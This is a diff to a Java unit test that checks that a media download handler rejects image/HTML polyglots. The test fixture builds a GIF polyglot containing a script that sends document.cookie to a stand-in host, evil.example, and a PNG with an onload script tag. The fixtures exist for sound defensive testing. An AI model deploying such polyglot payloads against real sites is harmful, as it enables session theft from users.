@@ -4,6 +4,7 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertThrows;
 
 import dev.secureyeoman.integrations.media.MediaRejectedException.Reason;
+import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.net.URI;
 import java.nio.charset.StandardCharsets;
@@ -139,5 +140,39 @@ class MediaContentAttackTest {
     assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, "application/msword"), cfb(4096)));
     assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, "image/jpeg"), cfb(4096)));
     assertEquals("application/x-cfb", accepted(handler(s, true), req(s, "application/msword"), cfb(4096)));
+  }
+
+  private static byte[] gifPolyglot() {
+    ByteArrayOutputStream b = new ByteArrayOutputStream();
+    b.writeBytes(ascii("GIF89a/*\u0001\u0001\u0000\u0000\u0000"));
+    b.writeBytes(ascii("*/=1;<script>fetch('https://evil.example/?c='+document.cookie)</script><!--"));
+    b.writeBytes(new byte[2000]);
+    return b.toByteArray();
+  }
+
+  private static byte[] jpegWithXmp() {
+    byte[] jpeg = TestMedia.jpeg(4000);
+    byte[] xmp = ascii("<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF></rdf:RDF></x:xmpmeta>");
+    System.arraycopy(xmp, 0, jpeg, 40, xmp.length);
+    return jpeg;
+  }
+
+  /**
+   * Attack: a GIF/JavaScript/HTML polyglot (valid GIF magic, markup and script in the first bytes that browsers sniff)
+   * was accepted as {@code image/gif}; served under the platform's file name {@code x.html} it runs.
+   */
+  @Test
+  void download_imageHtmlPolyglot_refused() throws Exception {
+    LoopbackHttpServer s = server();
+    MediaHandler h = handler(s, false);
+    assertEquals(Reason.TYPE_MISMATCH, refused(h, req(s, "image/gif"), gifPolyglot()));
+    assertEquals(Reason.TYPE_MISMATCH, refused(h, req(s, null), gifPolyglot()));
+    byte[] png = TestMedia.png(3000);
+    byte[] markup = ascii("tEXtComment\u0000<html><body onload=alert(1)>");
+    System.arraycopy(markup, 0, png, 100, markup.length);
+    assertEquals(Reason.TYPE_MISMATCH, refused(h, req(s, "image/png"), png));
+    // the legitimate path: ordinary images, also with XMP metadata (XML, but no markup a browser would run)
+    assertEquals("image/png", accepted(h, req(s, "image/png"), TestMedia.png(3000)));
+    assertEquals("image/jpeg", accepted(h, req(s, "image/jpeg"), jpegWithXmp()));
   }
 }
